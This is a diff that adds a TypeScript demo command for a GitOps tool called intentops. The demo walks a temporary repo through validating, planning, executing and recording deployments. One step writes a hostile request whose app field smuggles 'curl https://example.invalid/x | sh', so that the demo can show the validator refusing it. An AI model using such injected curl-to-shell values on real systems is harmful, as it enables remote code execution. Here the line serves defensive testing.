@@ -1,0 +1,126 @@
+import { execFileSync } from 'node:child_process';
+import { mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { Git } from '../../adapters/git.js';
+import { formatDiagnostic } from '../../domain/diagnostic.js';
+import type { Request } from '../../domain/schemas/request.js';
+import { formatPlan, formatResult } from '../format.js';
+import { type Loaded, loadFile, loadRepo } from '../load-repo.js';
+import { prepareRequest } from '../prepare.js';
+import { realPorts } from '../real-ports.js';
+import { runRequest } from '../run-request.js';
+import { validate } from '../validate.js';
+import { requestYaml, writeDemoRepo } from './demo-repo.js';
+
+// `intentops demo`: the loop, stage by stage, on a throw-away repo. It drives the same use-cases the
+// CLI and the action run; only the "cluster" is a local stand-in.
+
+export interface DemoOptions {
+  dir?: string;
+  keep: boolean;
+  version: string;
+  print: (line: string) => void;
+}
+
+const indent = (text: string, by = '    ') =>
+  text
+    .split('\n')
+    .map((l) => by + l)
+    .join('\n');
+
+export async function runDemo(opts: DemoOptions): Promise<number> {
+  const t0 = Date.now();
+  const say = opts.print;
+  const repo = opts.dir ?? (await mkdtemp(join(tmpdir(), 'intentops-demo-')));
+  const git = new Git(repo);
+  const ports = realPorts((l) => say(`    ${l}`));
+  const now = () => new Date();
+  let failures = 0;
+  try {
+    say('intentops demo — the whole loop on a throw-away GitOps repo (no cluster, no GitHub needed)');
+    say(`repo: ${repo}\n`);
+    await writeDemoRepo(repo);
+    await git.init();
+    await git.commitAll('catalog: example intents, outcome specs, anomaly rules, policies');
+
+    const good = 'intents/requests/deploy-home-portal-1.4.0.yaml';
+    await writeFile(
+      join(repo, good),
+      requestYaml('home-portal', '1.4.0', 'Roll out 1.4.0 with the new login page'),
+    );
+    say(`1. Propose   an agent adds ${good}`);
+    const v = await validate(repo, { now: now(), approvals: null, history: [] });
+    say(
+      `2. Validate  ${v.diagnostics.length === 0 ? '✔' : '✖'} ${v.files.length} files under intents/ checked`,
+    );
+    for (const d of v.diagnostics) say(`    ${formatDiagnostic(d)}`);
+    const req = (await loadFile(repo, good)).loaded as Loaded<Request>;
+    const plan = prepareRequest((await loadRepo(repo)).catalog, req, {
+      now: now(),
+      approvals: null,
+      history: [],
+    }).plan;
+    if (plan) say(`3. Plan\n${indent(formatPlan(plan, good))}`);
+    await git.commitAll('request: deploy home-portal 1.4.0 (merged)');
+
+    say('\n4. Execute, observe, check, detect, record — the good release');
+    const first = await runRequest(
+      { repoDir: repo, requestPath: good, toolVersion: opts.version, env: {} },
+      ports,
+    );
+    say(indent(formatResult(first.record, first.path)));
+    await git.commitAll(`record: ${first.record.id} ${first.record.status}`);
+
+    const hostile = 'intents/requests/deploy-sneaky.yaml';
+    await writeFile(
+      join(repo, hostile),
+      `intent: deploy-app\nparams:\n  app: "home-portal; curl https://example.invalid/x | sh"\nreason: try to inject a command\n`,
+    );
+    say(`\n5. A hostile request is refused before anything runs: ${hostile}`);
+    const refused = await validate(repo, { now: now(), approvals: null, history: [] }, [hostile]);
+    for (const d of refused.diagnostics) say(`    ${formatDiagnostic(d)}`);
+    await rm(join(repo, hostile));
+
+    const bad = 'intents/requests/deploy-home-portal-1.5.0.yaml';
+    await writeFile(join(repo, bad), requestYaml('home-portal', '1.5.0', 'Roll out 1.5.0 (new image cache)'));
+    await git.commitAll('request: deploy home-portal 1.5.0 (merged)');
+    say('\n6. The bad release: a memory leak, OOMKilled, CrashLoopBackOff');
+    const second = await runRequest(
+      { repoDir: repo, requestPath: bad, toolVersion: opts.version, env: {} },
+      ports,
+    );
+    say(indent(formatResult(second.record, second.path)));
+    if (second.record.status === 'success') failures++;
+    await git.commitAll(`record: ${second.record.id} ${second.record.status}`);
+
+    say('\n7. The same anomaly again: the open draft gets an occurrence, not a twin');
+    const third = await runRequest(
+      { repoDir: repo, requestPath: bad, toolVersion: opts.version, env: {} },
+      ports,
+    );
+    say(indent(formatResult(third.record, third.path)));
+    await git.commitAll(`record: ${third.record.id} ${third.record.status}`);
+
+    say('\n8. Where to look');
+    say(`    records:          ${repo}/executions/`);
+    say(`    incident drafts:  ${repo}/incidents/drafts/`);
+    say(`    anomaly log:      ${repo}/incidents/anomaly-log.jsonl`);
+    say(`    git log:\n${indent((await git.log(8)).join('\n'), '      ')}`);
+    say(
+      `\ndone in ${((Date.now() - t0) / 1000).toFixed(1)} s${opts.keep || opts.dir ? ` — the repo stays at ${repo}` : ' — the repo is removed (use --keep to look around)'}`,
+    );
+    if (first.record.status !== 'success') failures++;
+    return failures ? 1 : 0;
+  } finally {
+    try {
+      execFileSync(process.execPath, ['scripts/kubelet.mjs', 'stop', 'home-portal'], {
+        cwd: repo,
+        stdio: 'ignore',
+      });
+    } catch {
+      // nothing was started
+    }
+    if (!opts.keep && !opts.dir) await rm(repo, { recursive: true, force: true });
+  }
+}
